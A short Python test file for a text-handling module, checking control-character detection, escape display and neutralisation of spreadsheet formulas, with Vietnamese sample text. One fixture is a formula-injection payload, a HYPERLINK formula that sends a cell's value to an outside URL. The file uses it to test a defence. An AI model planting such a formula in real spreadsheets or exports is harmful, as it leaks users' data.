from hypothesis import given
from hypothesis import strategies as st

from tiendo.lib.text import control_character, neutralise, visible

CONTROLS = [chr(code) for code in [*range(0x20), 0x7F] if chr(code) not in "\t\n\r"]


def test_it_finds_nul_and_other_control_characters_but_not_tab_or_new_lines():
    assert control_character("ước\x00tính") == 3
    assert control_character("\x1b[31m") == 0
    assert control_character("dòng 1\r\n\tdòng 2") is None


@given(st.text(alphabet=st.characters(blacklist_characters=CONTROLS)), st.sampled_from(CONTROLS),
       st.text())
def test_it_finds_the_first_control_character_wherever_it_is(before, control, after):
    assert control_character(before + control + after) == len(before)


def test_it_neutralises_text_a_spreadsheet_would_run():
    assert neutralise('=HYPERLINK("http://x?leak="&A1)') == "'=HYPERLINK(\"http://x?leak=\"&A1)"
    assert neutralise("-5%") == "'-5%" and neutralise("Nguyễn Văn A") == "Nguyễn Văn A"


def test_it_shows_control_characters_as_escapes():
    assert visible("5\x00 và\x1b") == "5\\x00 và\\x1b"
    assert visible("dòng 1\n\tdòng 2") == "dòng 1\n\tdòng 2"
